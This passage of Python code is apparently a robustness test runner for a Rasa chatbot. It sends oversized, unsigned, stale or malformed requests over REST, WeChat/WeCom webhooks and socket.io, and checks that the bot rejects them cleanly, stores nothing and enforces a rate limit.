    """A sender of its own for one run of one case (of the length it asks for)."""
    sender = f"bad_{case.id[:40]}_{uuid.uuid4().hex[:10]}"
    chars = case.send.sender_chars if isinstance(case.send, RawRest) else None
    return sender if chars is None else (sender + "x" * chars)[:chars]


def rest_request(
    send: Union[Say, RawRest, Huge], sender: str
) -> Tuple[str, Optional[bytes], Optional[str]]:
    """Method, body and content type of a REST case."""
    if isinstance(send, Say):
        content = json.dumps(
            {"sender": sender, "message": send.text}, ensure_ascii=False
        ).encode()
        return "POST", content, "application/json"
    if isinstance(send, Huge):
        head = json.dumps({"sender": sender, "message": ""}).encode()
        filler = b"a" * max(0, send.size - len(head))
        return "POST", head[:-2] + filler + head[-2:], "application/json"
    if send.body is None:
        return send.method, None, send.content_type
    filled = send.body.replace(SENDER_MARK.encode(), sender.encode())
    return send.method, filled, send.content_type


def run_rest(bot: Bot, case: Case, sender: str, trace: Trace) -> str:
    """Send a REST case and check its answer; what was seen."""
    assert isinstance(case.send, (Say, RawRest, Huge))
    method, content, content_type = rest_request(case.send, sender)
    answer = exchange(f"{bot.rasa_url}{REST_PATH}", method, content, content_type)
    trace.status = answer.status
    expect = case.expect
    if expect.outcome is Outcome.ERROR:
        return check_error(answer, expect)
    if expect.outcome is Outcome.TOO_LARGE:
        return check_too_large(answer)
    if expect.outcome is Outcome.STATUS:
        check(answer.status in expect.statuses,
              f"HTTP {answer.status}, expected {expect.statuses}")  # fmt: skip
        return f"HTTP {answer.status}"
    said = reply_texts(answer)
    known = texts()
    if expect.outcome is Outcome.EMPTY:
        check(said == [known.empty], f"answered {said!r}, expected the empty notice")
        stored = user_events(bot.tracker(sender))
        check(not stored, f"an empty message was stored: {stored[:1]!r}")
        return "utter_empty_message, nothing stored"
    if expect.outcome is Outcome.TRUNCATED:
        check(
            said[0] == known.truncated, f"first answer {said[0][:60]!r}, not the notice"
        )
        check_sensible(said[1:])
    else:
        check(known.truncated not in said, "cut although within the limit")
        check_sensible(said)
    for fragment in expect.no_echo:
        check(not any(fragment in t for t in said), f"{fragment!r} echoed to the user")
    intent = check_tracker(bot, sender, expect)
    return f"{len(said)} messages, intent {intent}"


def callback(channel: str, send: Callback) -> Tuple[str, Optional[bytes]]:
    """Query string and body of a connector case, signed now."""
    user = f"bad_input_{uuid.uuid4().hex[:10]}"
    msg_id = str(uuid.uuid4().int % 10**15)
    stamp = str(int(time.time()) - (3600 if send.query == "stale" else 0))
    if channel == "wecom":
        inner = signed.inner_xml(user, CORP_ID, "text", "你好", msg_id, AGENT_ID)
        request = signed.post(wecom_crypto(), inner, timestamp=stamp,
                              outer={"ToUserName": CORP_ID, "AgentID": str(AGENT_ID)})  # fmt: skip
    else:
        inner = signed.inner_xml(user, MP_ACCOUNT, "text", "你好", msg_id)
        request = signed.post(wechat_crypto(), inner, timestamp=stamp,
                              outer={"ToUserName": MP_ACCOUNT},
                              extra_query={"openid": user, "encrypt_type": "aes"})  # fmt: skip
    query = dict(request.query)
    if send.query == "bad_signature":
        query["msg_signature"] = "0" * 40
    elif send.query == "none":
        query = {}
    content: Optional[bytes] = request.body.encode()
    if send.body is not None:
        content = send.body
    if send.body_size:
        frame = b"<xml><Encrypt></Encrypt></xml>"
        content = frame[:14] + b"A" * (send.body_size - len(frame)) + frame[14:]
    if send.method == "GET":
        content = None
    return urlencode(query), content


def run_callback(bot: Bot, case: Case, trace: Trace) -> str:
    """Send a connector case and check the status (never a 5xx)."""
    assert isinstance(case.send, Callback)
    query, content = callback(case.transport, case.send)
    url = f"{bot.rasa_url}{WEBHOOKS[case.transport]}" + (f"?{query}" if query else "")
    answer = exchange(url, case.send.method, content, case.send.content_type)
    trace.status = answer.status
    if case.expect.outcome is Outcome.TOO_LARGE:
        return check_too_large(answer)
    text = answer.body.decode("utf-8", "replace")
    check(answer.status in case.expect.statuses,
          f"HTTP {answer.status}, expected {case.expect.statuses}: {text[:120]!r}")  # fmt: skip
    if case.expect.ack is not None:
        check(text == case.expect.ack, f"acknowledged with {text!r}")
    if case.expect.mentions:
        check(any(w in text.lower() for w in case.expect.mentions),
              f"{text[:120]!r} names none of {case.expect.mentions}")  # fmt: skip
    return f"HTTP {answer.status} {text[:60]!r}"


# --- socket.io ---------------------------------------------------------------


def with_session(data: Any, session: str) -> Any:
    """``data`` with every ``@SESSION@`` replaced by the session id."""
    if isinstance(data, str):
        return session if data == SESSION_MARK else data
    if isinstance(data, list):
        return [with_session(item, session) for item in data]
    if isinstance(data, dict):
        return {key: with_session(value, session) for key, value in data.items()}
    return data


@dataclass
class SocketOutcome:
    """What one socket.io exchange gave."""

    connected: bool
    refusal: str = ""
    replies: List[Dict[str, Any]] = field(default_factory=list)


async def socket_exchange(
    rasa_url: str, origin: Optional[str], session: str, data: Any, send_data: bool
) -> SocketOutcome:
    """Connect (websocket), ask for ``session``, send one event, read the reply."""
    client = socketio.AsyncClient(reconnection=False)
    replies: asyncio.Queue[Dict[str, Any]] = asyncio.Queue()
    confirmed = asyncio.Event()

    @client.on("bot_uttered")
    async def bot_uttered(message: Any) -> None:
        replies.put_nowait(message if isinstance(message, dict) else {"text": message})

    @client.on("session_confirm")
    async def session_confirm(_: Any) -> None:
        confirmed.set()

    headers = {"Origin": origin} if origin is not None else {}
    try:
        await client.connect(rasa_url, headers=headers, transports=["polling"],
                             socketio_path="socket.io", wait_timeout=10)  # fmt: skip
    except socketio.exceptions.ConnectionError as refused:
        return SocketOutcome(False, refusal=str(refused) or "refused")
    try:
        await client.emit("session_request", {"session_id": session})
        await asyncio.wait_for(confirmed.wait(), REQUEST_TIMEOUT_S)
        if send_data:
            await client.emit("user_uttered", data)
        else:
            await client.emit(
                "user_uttered", {"message": "你好", "session_id": session}
            )
        first = await asyncio.wait_for(replies.get(), REQUEST_TIMEOUT_S)
        # the rest of the turn, if any
        await asyncio.sleep(0.3)
        rest = []
        while not replies.empty():
            rest.append(replies.get_nowait())
        return SocketOutcome(True, replies=[first, *rest])
    finally:
        # a graceful disconnect waits for the pending long poll (~25 s)
        await client.eio.disconnect(abort=True)
        for task in (client.eio.read_loop_task, client.eio.write_loop_task):
            if task is not None:
                task.cancel()


def websocket_upgrade(rasa_url: str, origin: Optional[str]) -> Optional[int]:
    """The status of a raw WebSocket upgrade to /socket.io (None: no answer)."""
    parts = urlsplit(rasa_url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    lines = [
        "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1",
        f"Host: {host}:{port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        f"Sec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}",
        "Sec-WebSocket-Version: 13",
        *([f"Origin: {origin}"] if origin is not None else []),
    ]
    with socket.create_connection((host, port), timeout=REQUEST_TIMEOUT_S) as conn:
        conn.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        head = b""
        while b"\r\n" not in head:
            chunk = conn.recv(4096)
            if not chunk:
                break
            head += chunk
    match = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    return int(match.group(1)) if match else None


def run_socket(bot: Bot, case: Case, session: str, trace: Trace) -> str:
    """Run a socket.io case and check it."""
    send = case.send
    known = texts()
    if isinstance(send, SocketConnect) and send.transport == "websocket":
        code = trace.status = websocket_upgrade(bot.rasa_url, send.origin)
        if case.expect.outcome is Outcome.REFUSED:
            check(code is not None and 400 <= code < 500,
                  f"origin {send.origin!r}: HTTP {code}, expected a 4xx")  # fmt: skip
            return f"upgrade refused with {code}"
        check(code == 101, f"origin {send.origin!r}: HTTP {code}, expected 101")
        return "upgraded (101)"
    if isinstance(send, SocketConnect):
        got = asyncio.run(
            socket_exchange(bot.rasa_url, send.origin, session, None, False)
        )
        if case.expect.outcome is Outcome.REFUSED:
            check(not got.connected, f"origin {send.origin!r} was let in")
            return f"refused: {got.refusal}"
        check(got.connected, f"origin {send.origin!r} refused: {got.refusal}")
        said = [str(r.get("text") or "") for r in got.replies]
        check_sensible(said)
        return f"connected, answered {said[0][:30]!r}"
    assert isinstance(send, SocketEvent)
    data = with_session(send.data, session)
    got = asyncio.run(
        socket_exchange(bot.rasa_url, ALLOWED_ORIGINS[0], session, data, True)
    )
    check(got.connected, f"refused: {got.refusal}")
    said = [str(r.get("text") or "") for r in got.replies]
    check(said[:1] == [known.bad_message], f"answered {said!r}, not utter_bad_message")
    stored = user_events(bot.tracker(session))
    check(not stored, f"the unreadable event was stored: {stored[:1]!r}")
    return "utter_bad_message, nothing stored"


# --- the runner --------------------------------------------------------------


def run_case(bot: Bot, case: Case) -> CaseResult:
    """Send one case to the bot and check what came back, within the bound."""
    sender = fresh_id(case)
    started = time.perf_counter()
    trace = Trace()
    try:
        if case.transport == "rest":
            detail = run_rest(bot, case, sender, trace)
        elif case.transport in WEBHOOKS:
            detail = run_callback(bot, case, trace)
        else:
            detail = run_socket(bot, case, sender, trace)
        passed = True
    except Failed as failure:
        passed, detail = False, str(failure)
    except Exception as crash:  # a timeout or a broken connection is a failure too
        passed, detail = False, f"{type(crash).__name__}: {crash}"
    elapsed = time.perf_counter() - started
    if passed and elapsed > CASE_BOUND_S:
        passed, detail = False, f"took {elapsed:.1f}s (bound {CASE_BOUND_S:.0f}s)"
    return CaseResult(case.id, case.category, case.transport, trace.status,
                      round(elapsed, 3), passed, detail)  # fmt: skip


def run_corpus(bot: Bot, cases: Optional[Sequence[Case]] = None) -> List[CaseResult]:
    """Every case of the corpus (or of ``cases``), one after another."""
    return [run_case(bot, case) for case in (corpus() if cases is None else cases)]


def by_category(results: Sequence[CaseResult]) -> Dict[str, Tuple[int, int]]:
    """Tried and passed per category, in the order of CATEGORIES."""
    table = {category: (0, 0) for category in CATEGORIES}
    for result in results:
        tried, passed = table.get(result.category, (0, 0))
        table[result.category] = (tried + 1, passed + int(result.passed))
    return table


# --- the rate limit ----------------------------------------------------------


@dataclass
class Burst:
    """One sender's messages sent back to back: what each got, how long it took."""

    sent: List[str]
    said: List[List[str]]
    seconds: List[float]

    def limited(self) -> List[int]:
        """Indexes of the messages answered with utter_rate_limited only."""
        refusal = [texts().rate_limited]
        return [i for i, said in enumerate(self.said) if said == refusal]


def burst(bot: Bot, sender: str, count: int) -> Burst:
    """``count`` messages from ``sender``, each sent when the last was answered."""
    result = Burst([], [], [])
    for number in range(1, count + 1):
        text = f"你好，第{number}条"
        content = json.dumps({"sender": sender, "message": text}).encode()
        started = time.perf_counter()
        answer = exchange(f"{bot.rasa_url}{REST_PATH}", "POST", content,
                          "application/json")  # fmt: skip
        result.seconds.append(time.perf_counter() - started)
        result.sent.append(text)
        messages = answer.json() if answer.status == 200 else None
        result.said.append(
            [str(m.get("text") or "") for m in messages if isinstance(m, dict)]
            if isinstance(messages, list)
            else [f"HTTP {answer.status}"]
        )
    return result
